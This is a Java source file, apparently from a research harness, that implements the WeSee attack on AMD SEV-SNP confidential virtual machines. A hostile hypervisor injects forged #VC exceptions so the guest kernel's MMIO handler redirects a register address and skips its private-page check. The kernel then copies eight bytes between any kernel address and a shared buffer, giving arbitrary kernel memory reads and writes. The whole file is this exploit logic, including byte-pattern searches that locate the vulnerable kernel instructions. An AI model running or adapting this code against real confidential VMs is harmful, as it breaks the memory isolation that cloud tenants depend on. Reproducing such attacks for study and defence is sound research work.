package dev.vesper.cli.attack;

import dev.vesper.ghcb.ExitCode;
import dev.vesper.ghcb.GhcbField;
import dev.vesper.machine.Machine;
import dev.vesper.machine.VcpuView;
import dev.vesper.machine.host.Exit;
import dev.vesper.machine.host.HypervisorProgram;
import dev.vesper.machine.observe.Event;
import dev.vesper.machine.observe.Symbols;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.OptionalLong;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.jspecify.annotations.Nullable;

/**
 * WeSee's reads and writes of eight bytes of kernel memory. #VC of an MMIO access is injected on an
 * ordinary MOV. Inside its handler two more of VMMCALL follow: one at the addition that makes the
 * address of the saved register, which is skipped and its result replaced by any address, and one
 * at the branch that refuses private pages. The handler then copies eight bytes between that
 * address and the shared buffer. The paper needs 34 injections where it has page faults to aim by;
 * single steps need three.
 */
final class KernelAccess {
  /** What is to be done. */
  record Operation(long address, @Nullable Long value) {
    static Operation read(long address) {
      return new Operation(address, null);
    }

    static Operation write(long address, long value) {
      return new Operation(address, value);
    }
  }

  /** Says what comes next. */
  @FunctionalInterface
  interface Plan {
    /**
     * {@return the next operation, null for the end}
     *
     * @param leaked RAX of the code that was interrupted first
     * @param results of the operations so far: what was read, or what was written
     */
    @Nullable Operation next(long leaked, List<Long> results);
  }

  private enum Phase {
    LEAK,
    LEAKING,
    SEARCH,
    FORGED,
    REDIRECTED,
    PASSED,
    RETURNING,
    OVER
  }

  private static final int MOST_STEPS = 400_000;
  private static final int SHARED_BUFFER = 0x800;

  /** Bytes of functions that are looked through. */
  private static final int SMALL = 0x60;

  private static final int LARGE = 0x1C0;

  private final Machine machine;
  private final HypervisorProgram host;
  private final List<Long> results = new ArrayList<>();
  private long redirect = -1;
  private long check = -1;
  private long textEnd = -1;

  /** The store of a system call's result, without which that call has failed, or -1. */
  private long systemCallResult = -1;

  private Phase phase = Phase.LEAK;
  private long leaked;
  private @Nullable Operation operation;
  private long site;
  private int steps;
  private int injections;

  KernelAccess(Trial t, Plan plan) {
    machine = t.machine();
    host = machine.hypervisor();
    host.onEvent(ExitCode.VMMCALL, this::vmmcall);
    host.onEvent(ExitCode.MMIO_READ, this::mmio);
    host.onEvent(ExitCode.MMIO_WRITE, this::mmio);
    t.on(
        Event.VcReturned.class,
        e -> {
          if (phase == Phase.RETURNING && e.vcRip() == site) {
            phase = Phase.SEARCH;
            steps = 0;
            operation = plan.next(leaked, results);
            if (operation == null) {
              phase = Phase.OVER;
            }
          }
        });
  }

  /**
   * Begins when the machine has executed so many instructions, with one #VC of VMMCALL that has the
   * kernel send RAX and leaves the instruction out.
   *
   * @param names of the kernel
   * @param code a vCPU that has the kernel mapped
   * @return false if the handler is not one that the attack knows
   */
  boolean begin(long instructions, Symbols names, VcpuView code) {
    redirect = find(names, code, "insn_get_modrm_reg_ptr", SMALL, "4801f0", 0);
    check = find(names, code, "vc_do_mmio", LARGE, "482305........0f85", 7);
    systemCallResult = find(names, code, "do_syscall_64", LARGE, "48894350", 0);
    textEnd = address(names, "__noinstr_text_start").orElse(-1);
    if (redirect == -1 || check == -1) {
      return false;
    }
    host.at(instructions, this::step);
    return true;
  }

  /** {@return the address of bytes in a function of the kernel, or -1} */
  static long findIn(Symbols names, VcpuView code, String symbol, String pattern, int offset) {
    return find(names, code, symbol, SMALL, pattern, offset);
  }

  /** {@return what was leaked first} */
  long leaked() {
    return leaked;
  }

  /** {@return what the operations have come to, those that are done} */
  List<Long> results() {
    return results;
  }

  /** {@return whether the plan was carried out} */
  boolean over() {
    return phase == Phase.OVER;
  }

  /** {@return how often #VC was injected} */
  int injections() {
    return injections;
  }

  /** {@return the address of a symbol where the kernel runs it} */
  static OptionalLong address(Symbols names, String symbol) {
    return names.all().stream()
        .filter(s -> s.name().equals(symbol))
        .mapToLong(Symbols.Symbol::address)
        .findFirst();
  }

  /**
   * {@return the address of bytes in a function, or -1}
   *
   * @param pattern in hex, where two dots are any byte
   */
  private static long find(
      Symbols names, VcpuView code, String symbol, int length, String pattern, int offset) {
    OptionalLong at = address(names, symbol);
    if (at.isEmpty()) {
      return -1;
    }
    byte[] bytes;
    try {
      bytes = code.read(at.getAsLong(), length);
    } catch (IndexOutOfBoundsException e) {
      return -1;
    }
    String hex = HexFormat.of().formatHex(bytes);
    Matcher m = Pattern.compile(pattern).matcher(hex);
    for (int i = 0; m.find(i); i = m.start() + 1) {
      if (m.start() % 2 == 0) {
        return at.getAsLong() + m.start() / 2 + offset;
      }
    }
    return -1;
  }

  private void step(Exit.Appointment exit) {
    VcpuView v = machine.observer().vcpu(exit.vcpu());
    long rip = v.rip();
    switch (phase) {
      case LEAK -> {
        site = rip;
        inject(exit, ExitCode.VMMCALL);
        phase = Phase.LEAKING;
      }
      case SEARCH -> {
        if (isSite(v, rip)) {
          site = rip;
          inject(exit, ExitCode.NPF);
          phase = Phase.FORGED;
        }
      }
      case FORGED -> {
        if (rip == redirect) {
          inject(exit, ExitCode.VMMCALL);
          phase = Phase.REDIRECTED;
        }
      }
      case REDIRECTED -> {
        if (rip == check) {
          inject(exit, ExitCode.VMMCALL);
          phase = Phase.PASSED;
        }
      }
      case LEAKING, PASSED, RETURNING -> {
        // The guest does the rest.
      }
      case OVER -> {
        return;
      }
    }
    if (steps++ < MOST_STEPS) {
      host.after(exit.vcpu(), 1, this::step);
    }
  }

  private boolean isSite(VcpuView v, long rip) {
    Operation o = operation;
    if (o == null || v.cpl() != 0) {
      return false;
    }
    if (o.value == null && rip == systemCallResult) {
      return true;
    }
    boolean plain = textEnd == -1 || rip < textEnd;
    return plain && (o.value == null ? SilentMoves.isStore(v) : SilentMoves.isLoad(v));
  }

  private void inject(Exit exit, int code) {
    injections++;
    exit.inject(ForgedVc.EVENT | (long) code << 32);
  }

  private void vmmcall(Exit.Event exit, Runnable profile) {
    Operation o = operation;
    if (phase == Phase.LEAKING) {
      leaked = exit.request(GhcbField.RAX);
      exit.set(GhcbField.RAX, leaked);
      done(exit);
      phase = Phase.RETURNING;
      return;
    }
    if (o == null || phase != Phase.REDIRECTED && phase != Phase.PASSED) {
      profile.run();
      return;
    }
    exit.set(GhcbField.RAX, o.address);
    done(exit);
  }

  private void mmio(Exit.Event exit, Runnable profile) {
    Operation o = operation;
    if (o == null || phase != Phase.PASSED) {
      profile.run();
      return;
    }
    long buffer = exit.ghcb() + SHARED_BUFFER;
    if (o.value == null) {
      results.add(exit.memory().read(buffer, 8));
    } else {
      exit.memory().write(buffer, 8, o.value);
      results.add(o.value);
    }
    done(exit);
    phase = Phase.RETURNING;
  }

  private static void done(Exit.Event exit) {
    exit.set(GhcbField.SW_EXITINFO1, 0);
    exit.set(GhcbField.SW_EXITINFO2, 0);
  }
}
